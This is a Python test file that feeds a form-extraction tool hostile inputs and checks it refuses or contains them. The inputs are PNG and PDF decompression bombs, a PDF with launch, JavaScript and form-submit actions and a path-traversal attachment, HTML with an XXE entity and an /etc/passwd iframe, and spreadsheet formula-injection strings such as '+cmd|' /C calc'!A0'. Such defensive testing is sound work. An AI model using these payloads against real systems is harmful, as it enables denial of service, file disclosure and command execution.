"""Files that mean harm: each ends as a row within its limits, and reaches nothing else."""

from __future__ import annotations

import csv
import http.server
import os
import struct
import threading
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pikepdf
import pymupdf
import pytest
from paper import KEYS, all_lines, print_form
from PIL import Image

import fcextract
from fcextract.batches import BatchSummary, batch
from fcextract.inputs import content_hash, gather

LIMITS = {"workers": 1, "timeout": 60, "max_memory": 700}
#: What a refusal may be called; anything else is a fault of this program.
REFUSED = {"limit-exceeded", "damaged-file", "not-a-form", "no-pages", "time-limit", "memory-limit"}


def chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data)
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def png_bomb(side: int) -> bytes:
    """A few hundred kilobytes that call themselves ``side`` × ``side`` pixels."""
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    body = zlib.compress(bytes(1 << 20), 9) * 4
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pdf(content: bytes = b"", **page: Any) -> bytes:
    """One page with ``content``, and keys of its own."""
    import io

    doc = pikepdf.new()
    doc.add_blank_page(page_size=(595, 842))
    doc.pages[0].Contents = doc.make_stream(content)
    for key, value in page.items():
        doc.pages[0][f"/{key}"] = value
    kept = io.BytesIO()
    doc.save(kept, compress_streams=True)
    return kept.getvalue()


def widgets(count: int) -> bytes:
    doc = pymupdf.open()
    page = doc.new_page()
    xref = doc.get_new_xref()
    doc.update_object(
        xref, "<</Type/Annot/Subtype/Widget/FT/Btn/T(a)/V/Off/AS/Off/Rect[10 10 20 20]>>"
    )
    doc.xref_set_key(page.xref, "Annots", "[" + f"{xref} 0 R " * count + "]")
    data: bytes = doc.tobytes()
    return data


def deep_pages(depth: int) -> bytes:
    """A page tree that is its own child, behind ``depth`` levels."""
    lines = [b"%PDF-1.7", b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj"]
    for n in range(2, depth):
        lines.append(b"%d 0 obj<</Type/Pages/Kids[%d 0 R]/Count 1>>endobj" % (n, n + 1))
    lines.append(b"%d 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj" % depth)
    return b"\n".join([*lines, b"trailer<</Root 1 0 R/Size %d>>" % (depth + 1), b"%%EOF"])


HUGE = pikepdf.Array([0, 0, 14_400_000, 14_400_000])
BOMBS: dict[str, bytes] = {
    "pixels.png": png_bomb(60_000),
    "stream.pdf": pdf(b"0 0 m 1 1 l S\n" * 4_000_000),
    "paths.pdf": pdf(b"0 0 m 1 1 l S 2 2 m 3 3 l S\n" * 40_000),
    "nested.pdf": pdf(b"q " * 500_000),
    "arrays.pdf": pdf(b"[" * 1_000_000),
    "page.pdf": pdf(b"0 0 14400000 14400000 re f", MediaBox=HUGE),
    "widgets.pdf": widgets(70_000),
    "tree.pdf": deep_pages(5_000),
    "brackets.html": b"<table>" * 200_000 + b'<input type="checkbox">',
    "line.txt": "未来社区分项指标评项".encode() + b"\xe2\x98\x91" * 3_000_000,
}


def test_bombs_are_rows(tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for name, data in BOMBS.items():
        (inbox / name).write_bytes(data)
        assert len(data) < 10_000_000
    s = batch(inbox, tmp_path / "out", workers=2, timeout=15, max_memory=700)
    assert s.files == len(BOMBS)
    assert {f.source: f.code for f in s.failures if f.code not in REFUSED} == {}
    assert s.failed == s.files
    codes = {f.source: f.code for f in s.failures}
    assert codes["pixels.png"] == codes["widgets.pdf"] == codes["paths.pdf"] == "limit-exceeded"


# --------------------------------------------------------------- reaching elsewhere


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server that notes who asks."""
    asked: list[str] = []

    class Note(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_HEAD = do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    with http.server.HTTPServer(("127.0.0.1", 0), Note) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def calling_pdf(address: str, canary: Path) -> bytes:
    """A whole form that wants to fetch, to start programs, to run scripts and to write."""
    doc = print_form(all_lines(frozenset(KEYS[:3])), "drawn").doc
    with pikepdf.open(__import__("io").BytesIO(doc.tobytes())) as made:
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=f"touch {canary}", NewWindow=True)
        script = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript,
            JS=f"this.exportAsText('{canary}'); app.launchURL('{address}/js');",
        )
        submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=f"{address}/submit")
        made.Root.OpenAction = script
        made.Root.AA = pikepdf.Dictionary(WC=launch, DS=submit)
        made.pages[0].AA = pikepdf.Dictionary(O=launch, C=submit)
        far = pikepdf.Stream(made, b"")
        far.F = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, FS=pikepdf.Name.URL, F=address)
        made.pages[0].Resources.XObject = pikepdf.Dictionary(Far=far)
        made.attachments["../../escaped.txt"] = b"out of here"
        kept = __import__("io").BytesIO()
        made.save(kept)
    return kept.getvalue()


def calling_html(address: str, canary: Path, seed: str) -> str:
    return (
        f'<html><head><link rel="stylesheet" href="{address}/css"><base href="{address}">'
        f'<script src="{address}/script"></script><meta http-equiv="refresh" content="0;{address}">'
        f'</head><body><img src="{address}/img"><iframe src="file:///etc/passwd"></iframe>'
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}/entity">]>&e;{seed}</body></html>'
    )


def test_no_file_reaches_anything(listener: tuple[str, list[str]], tmp_path: Path) -> None:
    address, asked = listener
    inbox = tmp_path / "a" / "inbox"
    inbox.mkdir(parents=True)
    canary = tmp_path / "canary"
    (inbox / "form.pdf").write_bytes(calling_pdf(address, canary))
    seed = (ROOT / "samples" / "seed" / "seed.txt").read_text("utf-8")
    (inbox / "form.html").write_text(calling_html(address, canary, seed), "utf-8")
    before = tree(tmp_path)
    s = batch(inbox, tmp_path / "a" / "out", **LIMITS)
    assert s.ok + s.review >= 1
    assert asked == []
    new = tree(tmp_path) - before
    assert {p.split("/")[1] for p in new} == {"out"} and not canary.exists()
    assert {p.split("/")[-1] for p in new} >= {"items.csv", "results.xlsx", "run.sqlite"}


def tree(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


# -------------------------------------------------------------------- what is written

FORMULA = '=HYPERLINK("http://127.0.0.1/","x")|\'/C calc\'!A0'


def test_no_formula_gets_into_a_table(tmp_path: Path) -> None:
    """A keyword, a remark and a file's name that a spreadsheet would run."""
    seed = (ROOT / "samples" / "seed" / "seed.txt").read_text("utf-8")
    empty = '<input type="checkbox"/>'
    hostile = seed.replace(f"/>\t\t{empty}\t", f"/>\t{FORMULA}\t{empty}\t{FORMULA}", 1)
    assert hostile.count(FORMULA) == 2
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "=1+1.txt").write_text(hostile, "utf-8")
    (inbox / "@SUM(A1).txt").write_text("+cmd|' /C calc'!A0", "utf-8")
    out = tmp_path / "out"
    batch(inbox, out, **LIMITS)
    for name in ("items", "forms", "findings"):
        with open(out / f"{name}.csv", encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for value in row:
                    assert not value.lstrip().startswith(("=", "+", "@", "\t", "\r")), value
    book = openpyxl.load_workbook(out / "results.xlsx")
    texts = {str(c.value) for sheet in book for line in sheet.iter_rows() for c in line}
    assert FORMULA in texts, "what was written on the form is kept as text"
    assert any(t == "=1+1.txt" for t in texts), "names are kept as text"
    formulas = [
        str(c.value)
        for sheet in book
        for line in sheet.iter_rows()
        for c in line
        if c.data_type == "f"
    ]
    assert not any("1+1" in f or "calc" in f or "HYPERLINK" in f for f in formulas), formulas


@pytest.mark.skipif(os.name == "nt", reason="names are text there")
def test_names_that_are_no_text(tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    seed = (ROOT / "samples" / "seed" / "seed.txt").read_bytes()
    raw = os.path.join(os.fsencode(inbox), b"\xff\xfe=1.txt")
    try:
        with open(raw, "wb") as f:
            f.write(seed)
    except OSError:
        pytest.skip("this file system wants text")
    (inbox / "new\nline\r<b>.txt").write_bytes(seed + b" ")
    with open(os.path.join(os.fsencode(inbox), b"\xff.pdf"), "wb"):
        pass
    s = batch(inbox, tmp_path / "out", **LIMITS)
    assert (s.forms, [f.code for f in s.failures]) == (2, ["file-empty"])
    with open(s.out / "forms.csv", encoding="utf-8-sig", newline="") as f:
        sources = [r["source"] for r in csv.DictReader(f)]
    assert sources == ["\\udcff.pdf", "\\udcff\\udcfe=1.txt", "new\nline\r<b>.txt"]
    assert batch(inbox, s.out, **LIMITS).kept == 3


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no pipes in folders there")
def test_what_never_ends_is_not_opened(tmp_path: Path) -> None:
    pipe = tmp_path / "form.pdf"
    os.mkfifo(pipe)
    assert content_hash(pipe) == ""
    assert gather([tmp_path]).files == ()
    s = batch([pipe], tmp_path / "out", **LIMITS)
    assert [f.code for f in s.failures] == ["file-missing"]


def test_a_large_picture_is_read_when_it_is_allowed(tmp_path: Path) -> None:
    path = tmp_path / "page.png"
    Image.new("L", (700, 1000), 255).save(path)
    with pytest.raises(fcextract.FcextractError) as e:
        fcextract.read(path, max_pixels=600_000)
    assert e.value.code == "limit-exceeded"
    s: BatchSummary = batch([path], tmp_path / "out", max_pixels=600_000, **LIMITS)
    assert s.failures[0].code == "limit-exceeded"
    s = batch([path], tmp_path / "out", **LIMITS)
    assert (s.read, s.failures[0].code) == (1, "not-a-form")


ROOT = Path(__file__).resolve().parent.parent
